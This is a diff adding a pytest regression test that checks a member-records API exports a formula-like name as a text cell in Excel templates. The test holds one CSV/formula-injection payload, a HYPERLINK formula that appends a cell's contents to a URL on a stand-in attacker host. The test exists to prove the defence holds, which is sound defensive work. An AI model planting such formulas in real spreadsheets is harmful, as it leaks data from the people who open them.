@@ -223,6 +223,24 @@ def test_a_member_named_with_a_control_character_does_not_break_the_filled_templ
             assert "a\ufffdbell" in names, (role, kind)
 
 
+def test_a_member_named_like_a_formula_stays_text_in_the_filled_templates(demo: Demo) -> None:
+    """openpyxl stores text beginning with "=" as a formula: Excel would run it on opening
+    (outside review, finding 29); the other spreadsheet starters are text already."""
+    client, tokens = demo
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    assert client.post("/api/v1/members", json={
+        "occurred_on": ON, "name": payload, "category": "direct", "organization_id": str(BRANCH),
+    }, headers=bearer(tokens["community"])).status_code == 201  # fmt: skip
+    response = client.get(
+        "/api/v1/imports/templates/all", params={"filled": "true"}, headers=bearer(tokens["county"])
+    )
+    assert response.status_code == 200, response.text
+    cells = [c for row in load_workbook(io.BytesIO(response.content))["党员"].iter_rows(min_row=2)
+             for c in row if c.value == payload]  # fmt: skip
+    assert cells
+    assert all(c.data_type == "s" for c in cells)
+
+
 def test_a_nan_recorded_before_it_was_refused_exports_as_invalid_number(demo: Demo) -> None:
     client, tokens = demo
     nan = float("nan")
